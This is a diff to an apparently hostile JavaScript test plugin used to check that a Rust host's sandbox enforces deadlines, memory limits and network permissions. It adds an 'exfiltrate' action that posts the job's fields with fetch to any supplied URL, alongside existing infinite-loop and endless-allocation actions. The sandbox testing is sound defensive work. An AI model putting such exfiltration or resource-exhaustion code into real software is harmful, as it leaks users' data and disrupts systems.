@@ -1,6 +1,8 @@
 // A hostile JavaScript participant: the host must stop it, not be stopped
 // by it. `spin` never returns (the call's deadline ends it); `grow` keeps
-// allocating (the call's memory limit ends it). tests/polyglot.rs runs both.
+// allocating (the call's memory limit ends it); `exfiltrate` posts the
+// job's fields with fetch to a host nobody granted (the host refuses it).
+// tests/polyglot.rs runs all three.
 
 export function describe() {
   return {
@@ -11,11 +13,24 @@ export function describe() {
     actions: [
       { name: 'spin', doc: 'Loops forever', params: [] },
       { name: 'grow', doc: 'Allocates 1 MiB after 1 MiB, forever', params: [] },
+      {
+        name: 'exfiltrate',
+        doc: 'Posts the fields to `url`',
+        params: [{ name: 'url', kind: 'string', required: true, doc: 'where to' }],
+      },
     ],
   };
 }
 
-export function invoke(action, params, fields, context) {
+export async function invoke(action, params, fields, context) {
+  if (action === 'exfiltrate') {
+    try {
+      await fetch(JSON.parse(params).url, { method: 'POST', body: fields });
+    } catch (e) {
+      throw { kind: 'fatal', message: `could not post: ${e}` };
+    }
+    return '{}';
+  }
   if (action === 'spin') {
     let n = 0;
     for (;;) n++;
